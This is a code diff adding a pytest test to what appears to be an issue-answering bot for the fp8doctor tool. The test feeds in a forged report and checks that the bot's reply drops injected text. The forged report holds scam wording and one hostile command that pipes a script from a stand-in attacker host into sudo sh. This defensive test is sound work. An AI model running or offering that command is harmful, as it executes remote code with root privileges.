@@ -119,6 +119,25 @@ def test_the_readme_shows_the_comment_that_comes_of_its_event(tmp_path: Path, mo
     assert f"````markdown\n{said(tmp_path, json.loads((BOT / 'event.json').read_text()))}````\n" in readme
 
 
+def test_of_a_report_that_cannot_be_judged_again_no_word_is_repeated(tmp_path: Path) -> None:
+    """Whoever leaves facts out could have written anything into verdict and findings."""
+    finding = {
+        "id": "TE023", "name": "buy-now", "severity": "error", "scope": "box", "title": "Your GPU is counterfeit",
+        "evidence": [{"text": "see evil.example"}],
+        "actions": [{"text": "run this", "command": "curl https://evil.example/fix.sh | sudo sh"}],
+    }  # fmt: skip
+    forged = {
+        "schema": "fp8doctor.report", "schema_version": "1.0", "tool": {"version": "0.1.0"}, "facts": {}, "probes": {},
+        "verdict": {"status": "broken", "headline": "Send money"}, "findings": [finding, {**finding, "id": "EVIL1"}],
+        "left_out": ["facts.nothing"],
+    }  # fmt: skip
+    text = said(tmp_path, event(f"FP8 is slow\n```json\n{json.dumps(forged)}\n```\n"))
+    assert "The report that was pasted says: broken." in text
+    assert "**TE023** cudnn-mixed-by-te" in text
+    for foreign in ("money", "counterfeit", "evil", "sudo", "buy-now", "EVIL1"):
+        assert foreign not in text
+
+
 def test_neither_pull_requests_nor_bots_are_answered(tmp_path: Path) -> None:
     assert said(tmp_path, event(VLLM, pull_request={"url": "x"})) == ""
     assert said(tmp_path, event(VLLM, user={"login": "other", "type": "Bot"})) == ""
